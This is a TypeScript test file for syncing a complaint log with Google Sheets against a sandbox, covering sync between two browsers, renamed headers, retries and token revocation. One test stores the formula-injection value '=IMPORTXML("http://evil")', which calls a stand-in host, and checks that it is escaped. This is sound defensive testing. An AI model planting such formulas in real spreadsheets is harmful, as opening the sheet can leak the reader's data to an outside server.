// The complaint log ⇄ Google Sheets against the strict sandbox (sandbox/sheets.ts): two browsers
// are two databases in turn (the same Dexie wiped in between), the sheet is the shared store.
import { beforeEach, describe, expect, it } from 'vitest';
import { db, type Complaint } from '../db/db';
import { useSandbox } from '../../sandbox/testing';
import { FIXED_TOKENS } from '../../sandbox/state';
import { setCloudAuthForTests } from '../sync/http';
import { makeComplaint } from '../complaints/test-helpers';
import { googleSheets } from './google-sheets';
import { syncComplaintSheet, type SheetLink } from './sync';
import { headerRow } from './sheet';

const sandbox = useSandbox();
const remote = () => googleSheets(`${sandbox.origin()}/google/sheets/v4`);
const waits: number[] = [];

beforeEach(async () => {
  await db.delete();
  await db.open();
  waits.length = 0;
  setCloudAuthForTests(
    async (p) => FIXED_TOKENS[p],
    async () => {},
    async (ms) => void waits.push(ms),
  );
});

const grid = async (id: string) => {
  const all = (await (await sandbox.admin('sheets')).json()) as {
    spreadsheets: { spreadsheetId: string; sheets: { grid: unknown[][] }[] }[];
  };
  return all.spreadsheets.find((s) => s.spreadsheetId === id)!.sheets[0]!.grid;
};
const STATUS_COL = headerRow().indexOf('Status') + 1;

async function newLink(): Promise<SheetLink> {
  const made = await remote().create('Reclamaciones');
  return { provider: 'google', sheetId: made.id, url: made.url, pushed: {} };
}

const complaint = (id: string, over: Partial<Complaint> = {}) =>
  makeComplaint({ id, threadKey: `gmail:${id}`, subject: `Pedido ${id} llegó roto`, status: 'new', ...over });

describe('complaint log ⇄ Google Sheets', () => {
  it('shows a complaint logged in one browser in the other, and brings a sheet status back', async () => {
    let linkA = await newLink();
    await db.complaints.put(complaint('c1', { summary: '=IMPORTXML("http://evil")' }));
    linkA = (await syncComplaintSheet(remote(), linkA)).link;
    const rows = await grid(linkA.sheetId);
    expect(rows[0]).toEqual(headerRow());
    expect(rows).toHaveLength(2);
    expect(rows[1]).toContain(`'=IMPORTXML("http://evil")`);

    // Browser B: its own database, the same sheet.
    await db.complaints.clear();
    let linkB: SheetLink = { ...linkA, pushed: {} };
    const passB = await syncComplaintSheet(remote(), linkB);
    linkB = passB.link;
    expect(passB.report.imported).toBe(1);
    expect(await db.complaints.get('c1')).toMatchObject({
      subject: 'Pedido c1 llegó roto',
      summary: '=IMPORTXML("http://evil")',
    });

    // Someone sets the status in the sheet by hand; B's next pass takes it, a second pass is quiet.
    await sandbox.admin('sheets/edit', 'POST', {
      spreadsheetId: linkB.sheetId,
      row: 2,
      col: STATUS_COL,
      value: 'Resuelta',
    });
    const back = await syncComplaintSheet(remote(), linkB);
    expect(back.report.statusesIn).toBe(1);
    expect(await db.complaints.get('c1')).toMatchObject({ status: 'resolved' });
    // The pass after writes the row back in the extension's words ("resolved", the Updated time); then quiet.
    const settle = await syncComplaintSheet(remote(), back.link);
    expect(settle.report).toMatchObject({ updated: 1, statusesIn: 0 });
    const quiet = await syncComplaintSheet(remote(), settle.link);
    expect(quiet.report).toMatchObject({ appended: 0, updated: 0, statusesIn: 0, imported: 0 });
    expect(await grid(linkB.sheetId)).toHaveLength(2);
  });

  it("maps reordered and renamed headers, keeps people's own column, reports a row without id", async () => {
    let link = await newLink();
    await db.complaints.put(complaint('c1'));
    link = (await syncComplaintSheet(remote(), link)).link;
    const id = link.sheetId;
    // Someone rearranges the header: Status first, a notes column of their own, the rest renamed in Spanish.
    const header = ['Estado', 'Notas', 'ID', 'Asunto'];
    for (let c = 1; c <= headerRow().length; c++)
      await sandbox.admin('sheets/edit', 'POST', {
        spreadsheetId: id,
        row: 1,
        col: c,
        value: header[c - 1] ?? '',
      });
    for (const [c, v] of [['new'], ['llamar'], ['c1'], ['viejo']].entries())
      await sandbox.admin('sheets/edit', 'POST', { spreadsheetId: id, row: 2, col: c + 1, value: v[0] });
    for (let c = 5; c <= headerRow().length; c++)
      await sandbox.admin('sheets/edit', 'POST', { spreadsheetId: id, row: 2, col: c, value: '' });
    await sandbox.admin('sheets/edit', 'POST', {
      spreadsheetId: id,
      row: 3,
      col: 4,
      value: 'Escrito a mano',
    });

    const pass = await syncComplaintSheet(remote(), link);
    expect(pass.report.problems).toContainEqual({ kind: 'unknown-header', detail: 'Notas' });
    expect(pass.report.problems).toContainEqual({ kind: 'missing-id', row: 3, detail: 'Escrito a mano' });
    expect(pass.report.appended).toBe(0);
    const rows = await grid(id);
    expect(rows[1]!.slice(0, 4)).toEqual(['new', 'llamar', 'c1', 'Pedido c1 llegó roto']);
    expect(rows[2]![3]).toBe('Escrito a mano');
    expect(rows).toHaveLength(3);
  });

  it('waits out a 429 Retry-After, and a lost append answer never makes a duplicate row', async () => {
    let link = await newLink();
    await db.complaints.put(complaint('c1'));
    await sandbox.admin('faults', 'POST', [
      { method: 'GET', path: '/values/', status: 429, retryAfter: 2, times: 1 },
      { method: 'POST', path: ':append', status: 500, dropAfterCommit: true, times: 1 },
    ]);
    await expect(syncComplaintSheet(remote(), link)).rejects.toMatchObject({ kind: expect.any(String) });
    expect(waits).toContain(2000);
    link = (await syncComplaintSheet(remote(), link)).link;
    const rows = await grid(link.sheetId);
    expect(rows.filter((r) => r.includes('c1'))).toHaveLength(1);
    expect(link.pushed.c1).toMatchObject({ status: 'new' });
  });

  it('a token revoked mid-sync stops the pass with an auth error and loses nothing locally', async () => {
    let link = await newLink();
    await db.complaints.bulkPut([complaint('c1'), complaint('c2')]);
    link = (await syncComplaintSheet(remote(), link)).link;
    await sandbox.admin('sheets/edit', 'POST', {
      spreadsheetId: link.sheetId,
      row: 2,
      col: STATUS_COL,
      value: 'closed',
    });
    await db.complaints.put(complaint('c3'));
    await sandbox.admin('config', 'POST', { tokens: 'revoke' });
    setCloudAuthForTests(
      async () => 'revoked-token',
      async () => {},
      async () => {},
    );
    await expect(syncComplaintSheet(remote(), link)).rejects.toMatchObject({ kind: 'auth' });
    expect(await db.complaints.count()).toBe(3);
    expect((await db.complaints.get('c1'))!.status).toBe('new');
  });
});
